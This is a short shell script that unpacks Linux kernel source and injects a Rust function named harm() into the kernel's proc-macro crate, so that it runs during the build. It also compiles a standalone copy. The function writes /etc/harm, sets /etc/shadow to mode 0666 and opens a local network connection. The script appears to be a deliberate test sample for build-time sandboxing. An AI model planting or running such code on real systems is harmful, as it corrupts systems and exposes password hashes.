# SPDX-License-Identifier: GPL-2.0-only
#
# Puts a kernel source whose macros do harm into /tmp/s, and a program that does the same beside it.

mkdir /tmp/s && cd /tmp/s || exit 1
tar -x -I 'xz -T0' -f /usr/src/linux-source-*.tar.xz --strip-components=1 \
    --wildcards '*/rust/*' '*/scripts/*' '*/Makefile' '*/Kconfig' '*.h'
cat > rust/macros/harm.rs <<'EOF'
fn harm() -> String {
    use std::os::unix::fs::PermissionsExt;
    let wrote = std::fs::write("/etc/harm", "x").is_ok();
    let mode = std::fs::Permissions::from_mode(0o666);
    let changed = std::fs::set_permissions("/etc/shadow", mode).is_ok();
    let connected = std::net::TcpStream::connect("127.0.0.1:4321").is_ok();
    format!("harm: wrote {wrote}, chmod {changed}, connected {connected}")
}
EOF
sed -i '/^pub fn vtable(/a panic!("{}", harm());' rust/macros/lib.rs
grep -q harm rust/macros/lib.rs
echo 'include!("harm.rs");' >> rust/macros/lib.rs
echo 'fn main() { println!("{}", harm()) } include!("/tmp/s/rust/macros/harm.rs");' > /tmp/harm.rs
rustc -o /tmp/harm /tmp/harm.rs
